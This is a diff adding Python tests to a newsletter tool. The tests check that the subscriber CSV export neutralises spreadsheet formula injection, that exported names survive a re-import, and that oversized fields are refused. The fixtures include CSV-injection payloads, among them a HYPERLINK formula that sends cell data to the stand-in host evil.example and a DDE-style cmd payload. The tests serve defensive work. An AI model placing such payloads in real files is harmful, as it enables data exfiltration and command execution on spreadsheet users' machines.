@@ -10,7 +10,9 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import sqlite3
+import subprocess
 from datetime import UTC, datetime, timedelta
 from email.utils import format_datetime
 from pathlib import Path
@@ -304,3 +306,84 @@ def test_export_is_csv_that_import_reads_back_into_a_fresh_database(site: Site) 
     fresh.run("subscribers", "import", str(write_csv(fresh, "export.csv", export)))
     # Ulla stays unsubscribed: a round trip never signs anyone up again.
     assert in_database(fresh) == in_database(site)
+
+
+# -- exports a spreadsheet cannot run ----------------------------------------------------------
+
+FORMULA_START = re.compile(r"[=+\-@\t\r]")
+"""What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection")."""
+ROUND_TRIP = {
+    "formel@example.org": '=HYPERLINK("http://evil.example/?d="&A3,"Klikk")',
+    "pluss@example.org": "+47 915 00 000",
+    "minus@example.org": "-2+3+cmd|' /C calc'!A0",
+    "krolla@example.org": "@SUM(1+9)",
+    "sitat@example.org": "'=1+2",
+    "apostrof@example.org": "'Kari",
+    "=ola@example.org": "Ola",
+    "bjorn@example.org": 'Bjørn "Bass" Berg',
+}
+"""Names (and an address) that start like formulas, or like a cell made safe, and a plain one."""
+
+
+def test_no_exported_cell_starts_a_formula_even_one_stored_before_names_were_checked(
+    site: Site,
+) -> None:
+    for address, name in ROUND_TRIP.items():
+        site.run("subscribers", "add", address, "--name", name)
+    with Store.open(site.db) as store:  # rows an older trnews could have stored
+        for address, name in [
+            ("tab@example.org", "\t=1+2"),
+            ("cr@example.org", "\r=1+2"),
+            ("midt@example.org", "Kari\r=1+2,"),  # a bare CR would start a row
+        ]:
+            store.add_subscriber(
+                address, name, state=SubscriberState.ACTIVE, source="admin", now=datetime.now(UTC)
+            )
+
+    proc = subprocess.run(  # bytes: text mode would turn the carriage return into a newline
+        site.command("subscribers", "export"),
+        cwd=site.root,
+        env=site.process_env(),
+        capture_output=True,
+        check=True,
+    )
+    exported = proc.stdout.decode("utf-8")
+
+    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
+    assert [c for c in cells if FORMULA_START.match(c)] == []
+    names = {r["email"]: r["name"] for r in csv.DictReader(io.StringIO(exported, newline=""))}
+    assert names["formel@example.org"] == "'" + ROUND_TRIP["formel@example.org"]
+    assert names["tab@example.org"] == "'\t=1+2"
+    assert names["cr@example.org"] == "'\r=1+2"
+    assert names["midt@example.org"] == "Kari\r=1+2,"
+    assert names["apostrof@example.org"] == "'Kari"  # no formula: left as it is
+    assert names["sitat@example.org"] == "''=1+2"
+
+
+def test_an_export_imported_into_a_fresh_database_gives_back_the_same_names(site: Site) -> None:
+    for address, name in ROUND_TRIP.items():
+        site.run("subscribers", "add", address, "--name", name)
+    site.run("subscribers", "remove", "minus@example.org")
+    exported = site.run("subscribers", "export").stdout
+
+    fresh = Site(root=site.root / "fresh")
+    fresh.root.mkdir()
+    fresh.run("subscribers", "import", str(write_csv(fresh, "export.csv", exported)))
+
+    assert in_database(fresh) == in_database(site)
+    assert {email: name for email, (name, _) in in_database(fresh).items()} == ROUND_TRIP
+
+
+def test_a_csv_field_too_large_to_read_is_refused_naming_its_line(site: Site) -> None:
+    huge = "x" * (200 * 1024)
+    path = write_csv(
+        site, "readers.csv", f'email,name\nanne@example.org,Anne\nbjorn@example.org,"{huge}"\n'
+    )
+
+    proc = site.run("subscribers", "import", str(path), check=False)
+
+    assert proc.returncode == 2, proc.stdout + proc.stderr
+    assert f"{path}:3:" in proc.stderr
+    assert "field larger than field limit" in proc.stderr
+    assert "Traceback" not in proc.stderr
+    assert in_database(site) == {}
